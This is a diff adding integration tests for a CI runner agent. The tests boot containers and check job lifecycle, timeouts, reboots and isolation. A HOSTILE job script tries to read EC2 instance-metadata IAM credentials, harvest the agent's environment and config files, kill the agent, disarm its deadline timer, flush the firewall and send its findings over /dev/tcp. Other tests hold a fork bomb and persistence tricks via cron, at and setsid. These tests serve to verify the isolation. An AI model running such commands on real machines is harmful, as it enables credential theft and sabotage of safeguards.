@@ -2,22 +2,30 @@
 
 from __future__ import annotations
 
+import hashlib
 import os
 import shutil
+import signal
+import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
-from agent.contract.messages import Status
+from agent.contract.messages import Busy, Started, Status
+from agent.phases import Phase
+from tests.conftest import Moto
 from tests.machines import tree
 from tests.machines.ground import Ground
-from tests.conftest import Moto
 
 NEEDED = [tool for tool in ("systemd-nspawn", "mmdebstrap", "nft", "ip") if shutil.which(tool) is None]
 pytestmark = pytest.mark.skipif(
-    os.geteuid() != 0 or bool(NEEDED), reason=f"BOOTS NOTHING: needs root and {', '.join(NEEDED) or 'no more tools'}"
+    os.geteuid() != 0 or bool(NEEDED), reason=f"NOTHING WAS BOOTED: needs root{''.join(f', {tool}' for tool in NEEDED)}"
 )
+OFF_S = 25.0
+"""Seconds from power-on within which each of these machines must be off; most take two to five."""
+HOLD = "trap 'exit 1' INT; echo up; while :; do sleep 0.05; done"
 
 
 @pytest.fixture(scope="session")
@@ -39,10 +47,393 @@ def ground(moto: Moto, baked: Path, tmp_path: Path) -> Iterator[Ground]:
 
 def test_a_green_job_on_a_baked_image(ground: Ground) -> None:
     ground.configure()
-    ground.play("echo one; id -un")
+    ground.play("id -un; echo $RUNS_FLEET_ATTEMPT")
     ground.boot()
 
-    ground.machine.wait_off(30)
+    ground.machine.wait_off(OFF_S)
+
+    messages = ground.messages()
+    assert [type(m).__name__ for m in messages] == ["Started", "Busy", "FinalWord"], ground.machine.console
+    word: Any = messages[-1]
+    assert (word.status, word.error, ground.state()) == (Status.SUCCESS, "", "terminated")
+
+
+def test_a_red_job_on_a_baked_image(ground: Ground) -> None:
+    ground.configure()
+    ground.play("exit 3")
+    ground.boot()
+
+    ground.machine.wait_off(OFF_S)
 
     word = ground.word()
-    assert (word.status, word.error, ground.state()) == (Status.SUCCESS, "", "terminated"), f"{word.error}\n{ground.machine.console}"
+    assert (word.status, word.reason, ground.state()) == (Status.FAILURE, "job_failed", "terminated")
+
+
+def test_a_stock_image_installs_the_bundle_and_lives_the_same_life(moto: Moto, bundle: Path, tmp_path: Path) -> None:
+    ground = Ground(moto, tree.stock(), tmp_path)
+    try:
+        s3 = moto.client("s3")
+        s3.create_bucket(Bucket="config")
+        content = bundle.read_bytes()
+        s3.put_object(Bucket="config", Key=f"agent/{bundle.name}", Body=content)
+        archive = tree.runner()
+        key = f"runners/{archive.version}/x64/actions-runner-{archive.version}.tar.gz"
+        s3.put_object(Bucket="config", Key=key, Body=archive.content, Metadata={"sha256": archive.sha256})
+        ground.configure()
+        ground.boot(
+            RUNS_FLEET_CONFIG_BUCKET="config", RUNS_FLEET_AGENT_BUNDLE=f"agent/{bundle.name}",
+            RUNS_FLEET_AGENT_SHA256=hashlib.sha256(content).hexdigest(), RUNS_FLEET_IDLE_TIMEOUT_SECONDS="1",
+            RUNS_FLEET_GITHUB_API_URL="http://10.77.0.1:9",
+        )  # fmt: skip
+
+        ground.machine.wait_off(60)
+
+        word = ground.word()
+        assert (word.status, word.reason, word.cache_outcome) == (Status.INTERRUPTED, "unclaimed", "hit"), ground.machine.console
+        assert ground.state() == "terminated"
+    finally:
+        ground.close()
+
+
+def test_a_bundle_with_another_digest_is_never_run(moto: Moto, bundle: Path, tmp_path: Path) -> None:
+    ground = Ground(moto, tree.stock(), tmp_path)
+    try:
+        moto.client("s3").create_bucket(Bucket="config")
+        moto.client("s3").put_object(Bucket="config", Key="agent", Body=bundle.read_bytes())
+        ground.boot(RUNS_FLEET_CONFIG_BUCKET="config", RUNS_FLEET_AGENT_BUNDLE="agent", RUNS_FLEET_AGENT_SHA256="0" * 64)
+
+        ground.machine.wait_off(60)
+
+        assert "bundle: FAILED" in ground.boot_failure().error
+    finally:
+        ground.close()
+
+
+def test_a_spot_notice_in_the_middle_of_a_job(ground: Ground) -> None:
+    ground.configure()
+    ground.play(HOLD)
+    ground.boot()
+    ground.machine.shows("notice.ended kind=busy")
+
+    ground.metadata.spot_notice(in_s=100)
+    ground.machine.wait_off(OFF_S)
+
+    word = ground.word()
+    assert (word.status, word.reason, ground.state()) == (Status.INTERRUPTED, "spot_notice", "terminated")
+
+
+def test_the_maximum_runtime(ground: Ground) -> None:
+    ground.configure(max_runtime_minutes=0.02)
+    ground.play("trap '' INT TERM; while :; do sleep 0.05; done")
+    ground.boot(RUNS_FLEET_GRACE_SECONDS="0.5")
+
+    ground.machine.wait_off(OFF_S)
+
+    word = ground.word()
+    assert (word.status, word.reason, ground.state()) == (Status.TIMEOUT, "max_runtime", "terminated")
+
+
+def test_systemctl_stop_is_an_orderly_end(ground: Ground) -> None:
+    ground.configure()
+    ground.play(HOLD)
+    ground.boot()
+    ground.machine.shows("notice.ended kind=busy")
+
+    ground.machine.run("systemctl", "stop", "--no-block", "runs-fleet-agent")
+    ground.machine.wait_off(OFF_S)
+
+    word = ground.word()
+    assert (word.status, word.reason, word.job_result) == (Status.INTERRUPTED, "signal", "Canceled")
+
+
+def test_a_power_button_is_an_orderly_end(ground: Ground) -> None:
+    """What EC2 sends when somebody stops or terminates the instance: every unit stops, the agent before its job."""
+    ground.configure()
+    ground.play(HOLD)
+    ground.boot()
+    ground.machine.shows("notice.ended kind=busy")
+
+    ground.machine.run("systemctl", "poweroff")
+    ground.machine.wait_off(OFF_S)
+
+    word = ground.word()
+    assert (word.status, word.reason, word.job_result) == (Status.INTERRUPTED, "signal", "Canceled"), ground.machine.console
+
+
+HELD = {
+    Phase.WAKING: "no instance id", Phase.PREPARING: "no configuration", Phase.REGISTERING: "config.sh hangs", Phase.RUNNING: "a long job",
+    Phase.SETTLING: "logs hang", Phase.REPORTING: "the queue hangs", Phase.TERMINATING: "EC2 hangs",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("phase", HELD, ids=lambda phase: phase.value)
+def test_a18_an_agent_killed_in_any_phase(ground: Ground, phase: Phase) -> None:
+    ground.play(HOLD if phase is Phase.RUNNING else "true")
+    dead = ground.aws_hung
+    slow: dict[Phase, dict[str, str]] = {
+        Phase.SETTLING: {"AWS_ENDPOINT_URL_LOGS": dead, "RUNS_FLEET_LOG_GROUP": "/group"},
+        Phase.REPORTING: {"AWS_ENDPOINT_URL_SQS": dead}, Phase.TERMINATING: {"AWS_ENDPOINT_URL_EC2": dead},
+    }  # fmt: skip
+    if phase is Phase.REGISTERING:
+        ground.configure(jit_config=None, jit_token="AREGtoken12345", labels=["x"])
+        ground.machine.put("/opt/actions-runner/config.sh", "#!/bin/bash\nexec sleep 60\n", 0o755)
+    elif phase not in (Phase.WAKING, Phase.PREPARING):
+        ground.configure()
+    if phase is Phase.WAKING:
+        ground.machine.put("/etc/systemd/system/runs-fleet-agent.service.d/late.conf", ground.nameless())
+    ground.boot(**slow.get(phase, {}))
+    ground.machine.shows(f"phase.entered phase={phase.value}")
+
+    ground.machine.run("systemctl", "kill", "--kill-whom=main", "--signal=KILL", "runs-fleet-agent")
+    ground.machine.wait_off(OFF_S)
+
+    said = [m.status for m in ground.messages() if not isinstance(m, Started | Busy)]
+    expected = {
+        Phase.WAKING: "bootstrap_failed", Phase.PREPARING: "bootstrap_failed", Phase.TERMINATING: "success",
+    }.get(phase, "failure")  # fmt: skip
+    assert said == [expected], ground.machine.console
+
+
+def test_a_python_that_cannot_start(ground: Ground) -> None:
+    ground.machine.put("/usr/local/lib/runs-fleet/agent/__main__.py", "import no_such_module\n")
+    ground.boot()
+
+    ground.machine.wait_off(OFF_S)
+
+    assert "no_such_module" in ground.boot_failure().error
+
+
+def test_a_python_that_is_not_there(ground: Ground) -> None:
+    ground.machine.put("/usr/local/bin/runs-fleet-agent", "#!/nowhere/python\n", 0o755)
+    ground.boot()
+
+    ground.machine.wait_off(OFF_S)
+
+    assert ground.boot_failure().instance_id == ground.instance_id
+
+
+def test_a_unit_that_is_masked_is_noticed_by_the_deadlines_timer(ground: Ground) -> None:
+    ground.machine.link("/etc/systemd/system/runs-fleet-agent.service", "/dev/null")
+    ground.machine.put("/etc/runs-fleet/deadline.env", "RUNS_FLEET_START_SECONDS=3\n")
+    ground.boot()
+
+    ground.machine.wait_off(OFF_S)
+
+    assert "masked" in ground.boot_failure().error or "no agent was started" in ground.machine.console
+
+
+def test_an_agent_that_hangs_is_ended_by_the_hard_deadline(ground: Ground) -> None:
+    ground.configure()
+    ground.play(HOLD)
+    ground.boot()
+    ground.machine.shows("notice.ended kind=busy")
+    ground.machine.run("systemctl", "kill", "--kill-whom=main", "--signal=STOP", "runs-fleet-agent")
+
+    ground.machine.run("sh", "-c", "echo 0 > /var/lib/runs-fleet/limit-minutes")
+    took_s = ground.machine.wait_off(60)
+
+    assert took_s < 60
+    assert ground.word().reason == "agent_died"
+
+
+def test_a_metadata_service_that_is_slow_and_flaky_at_first(ground: Ground) -> None:
+    ground.configure()
+    ground.play("true")
+    ground.imds.flaky = lambda number: ("refuse", "hang", "on")[number - 1] if number < 3 else "on"
+    ground.boot()
+
+    ground.machine.wait_off(OFF_S)
+
+    assert ground.word().status is Status.SUCCESS
+
+
+def test_without_a_metadata_service_nothing_is_said_and_the_machine_goes(ground: Ground) -> None:
+    ground.imds.mode = ground.imds6.mode = "refuse"
+    ground.boot()
+
+    ground.machine.wait_off(90)
+
+    assert ground.messages() == []
+
+
+def test_a_parameter_that_may_not_be_read(ground: Ground) -> None:
+    ground.boot(RUNS_FLEET_CONFIG_TIMEOUT_SECONDS="2")
+
+    ground.machine.wait_off(OFF_S)
+
+    assert (ground.word().reason, ground.state()) == ("configuration_missing", "terminated")
+
+
+def test_a_cloud_that_hangs(ground: Ground) -> None:
+    ground.configure()
+    ground.play(HOLD)
+    ground.boot()
+    ground.machine.shows("notice.ended kind=busy")
+
+    ground.aws.mode = "hang"
+    ground.aws.drop()
+    ground.machine.run("systemctl", "stop", "--no-block", "runs-fleet-agent")
+    took_s = ground.machine.wait_off(150)
+
+    assert took_s < 150
+
+
+def test_a_wire_that_is_cut(ground: Ground) -> None:
+    ground.configure(max_runtime_minutes=0.05)
+    ground.play(HOLD)
+    ground.boot()
+    ground.machine.shows("notice.ended kind=busy")
+
+    ground.network.cut()
+    took_s = ground.machine.wait_off(150)
+
+    assert took_s < 150
+
+
+def test_a_disk_that_is_full(moto: Moto, baked: Path, tmp_path: Path) -> None:
+    ground = Ground(moto, baked, tmp_path, disk_mb=96)
+    try:
+        ground.configure()
+        ground.play("dd if=/dev/zero of=$HOME/much bs=1M 2>/dev/null; echo full; while :; do sleep 0.05; done")
+        ground.boot()
+
+        ground.machine.wait_off(60)
+
+        word = ground.word()
+        assert (word.status, word.reason, ground.state()) == (Status.FAILURE, "disk_full", "terminated")
+    finally:
+        ground.close()
+
+
+def test_a_fork_bomb_ends_in_the_jobs_own_unit(ground: Ground) -> None:
+    ground.configure(max_runtime_minutes=0.05)
+    ground.play("f() { f | f & }; f; sleep 60")
+    ground.boot(RUNS_FLEET_GRACE_SECONDS="1")
+
+    ground.machine.wait_off(60)
+
+    word = ground.word()
+    assert (word.status, ground.state()) == (Status.TIMEOUT, "terminated")
+
+
+def test_a_memory_hog_is_killed_and_the_agent_is_not(ground: Ground) -> None:
+    ground.configure(max_runtime_minutes=0.5)
+    ground.play("python3 -c 'hog = [bytearray(50 << 20) for _ in range(200)]'; echo survived $?; exit 9")
+    ground.boot()
+
+    ground.machine.wait_off(60)
+
+    word = ground.word()
+    assert (word.status, ground.state()) == (Status.FAILURE, "terminated")
+
+
+@pytest.mark.parametrize("how", ["reboot", "panic"])
+def test_a_machine_that_starts_again_runs_no_second_job(ground: Ground, how: str) -> None:
+    """`panic`: systemd dies without a goodbye, which in a container is what a kernel's panic and reset look like."""
+    ground.configure()
+    ground.play(HOLD)
+    ground.boot()
+    ground.machine.shows("notice.ended kind=busy")
+
+    force = ["--force", "--force"] if how == "panic" else []
+    if not force:
+        ground.machine.run("systemctl", "mask", "--runtime", "runs-fleet-agent")
+        ground.machine.run("systemctl", "kill", "--kill-whom=main", "--signal=STOP", "runs-fleet-agent")
+    ground.machine.run("systemctl", "reboot", *(force or ["--force"]))
+    ground.machine.wait_off(60)
+
+    assert ground.machine.boots == 2
+    word = ground.word()
+    assert (word.status, word.reason, word.job_id, word.session_id) == (Status.INTERRUPTED, "rebooted", "7", "s-1")
+    assert ground.machine.console.count("phase.entered phase=running") == 1
+
+
+HOSTILE = """
+out=/tmp/found; : > $out
+curl -s --max-time 2 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token && echo METADATA >> $out
+curl -s --max-time 2 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' 'http://[fd00:ec2::254]/latest/api/token' && echo METADATA6 >> $out
+curl -s --max-time 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/ && echo METADATA1 >> $out
+agent=$(systemctl show --property=MainPID --value runs-fleet-agent)
+kill -9 $agent 2>/dev/null && echo KILLED >> $out
+kill -STOP $agent 2>/dev/null && echo STOPPED >> $out
+cat /proc/$agent/environ >/dev/null 2>&1 && echo ENVIRON >> $out
+cat /etc/runs-fleet/agent.env >/dev/null 2>&1 && echo SETTINGS >> $out
+ls /var/lib/runs-fleet >/dev/null 2>&1 && echo STATE >> $out
+find /opt/runs-fleet -name '*spool*' -readable -type f 2>/dev/null | grep -q . && echo SPOOL >> $out
+cat /var/lib/cloud/instance/user-data.txt >/dev/null 2>&1 && echo USERDATA >> $out
+systemctl stop runs-fleet-agent 2>/dev/null && echo STOPPED-UNIT >> $out
+systemctl stop runs-fleet-deadline.timer 2>/dev/null && echo DISARMED >> $out
+systemctl mask runs-fleet-power-off 2>/dev/null && echo MASKED >> $out
+echo x > /usr/local/lib/runs-fleet/power-off 2>/dev/null && echo REWRITTEN >> $out
+rm -f /usr/local/lib/runs-fleet/deadline 2>/dev/null && echo REMOVED >> $out
+nft flush ruleset 2>/dev/null && echo FIREWALL >> $out
+sudo -n true 2>/dev/null && echo ROOT >> $out
+systemctl show runs-fleet-job --property=Environment | grep -q JITCONFIG && echo UNIT-ENVIRONMENT >> $out
+tr '\\0' ' ' < /proc/*/cmdline 2>/dev/null | grep -q 'eyJ' && echo ARGV >> $out
+cat $out > /dev/tcp/10.77.0.1/5002
+"""
+
+
+def test_a_hostile_job_reaches_neither_credentials_nor_the_agent(ground: Ground) -> None:
+    ground.configure()
+    told = ground.listen(5002)
+    ground.play(HOSTILE)
+    ground.boot(RUNS_FLEET_LOG_GROUP="/group")
+
+    ground.machine.wait_off(60)
+
+    assert told() == "", ground.machine.console
+    word = ground.word()
+    assert (word.status, word.log_outcome, ground.state()) == (Status.SUCCESS, "shipped", "terminated")
+
+
+def test_the_agent_itself_gets_its_credentials_past_the_firewall(ground: Ground) -> None:
+    """There are no others on the machine: that anything was sent proves it; that the rule counts proves it is the one that matters."""
+    ground.configure()
+    ground.play(f"curl -s --max-time 1 http://169.254.169.254/ || true; {HOLD}")
+    ground.boot()
+    ground.machine.shows("notice.ended kind=busy")
+    deadline_s = time.monotonic() + 10
+    while "packets 0 bytes 0 reject with icmp p" in (
+        rules := ground.machine.run("nft", "list", "table", "inet", "runs_fleet").stdout
+    ):
+        assert time.monotonic() < deadline_s, rules
+
+    ground.machine.run("systemctl", "stop", "--no-block", "runs-fleet-agent")
+    ground.machine.wait_off(OFF_S)
+
+    assert ground.word().status is Status.INTERRUPTED
+
+
+STAYERS = {
+    "a daemon of a new session": "setsid setsid sh -c 'env -i sleep 1000 & env -i sleep 1000' >/dev/null 2>&1 &",
+    "cron": "echo '* * * * * sleep 1000' | crontab -",
+    "at": "echo 'sleep 1000' | at now 2>/dev/null",
+    "a user manager": "systemd-run --user --quiet sleep 1000",
+}
+
+
+@pytest.mark.parametrize("how", STAYERS)
+def test_nothing_of_a_job_outlives_its_end(ground: Ground, how: str) -> None:
+    ground.configure()
+    ground.play(f"{{ {STAYERS[how]} }} || true; true")
+    ground.boot()
+
+    took_s = ground.machine.wait_off(OFF_S)
+
+    assert (ground.word().status, ground.state()) == (Status.SUCCESS, "terminated")
+    assert took_s < OFF_S
+
+
+def test_the_selfcheck_on_a_booted_machine(ground: Ground) -> None:
+    ground.configure()
+    ground.boot()
+    ground.play(HOLD)
+    ground.machine.shows("phase.entered phase=running")
+
+    told = ground.machine.run("runs-fleet-agent", "selfcheck")
+
+    assert "the job's user gets no answer, root does" in told.stdout, told.stdout + told.stderr
+    assert told.returncode == 0, told.stdout
+    os.kill(ground.machine.first_process(), signal.SIGRTMIN + 4)  # systemd's own power-off signal
+    ground.machine.wait_off(OFF_S)
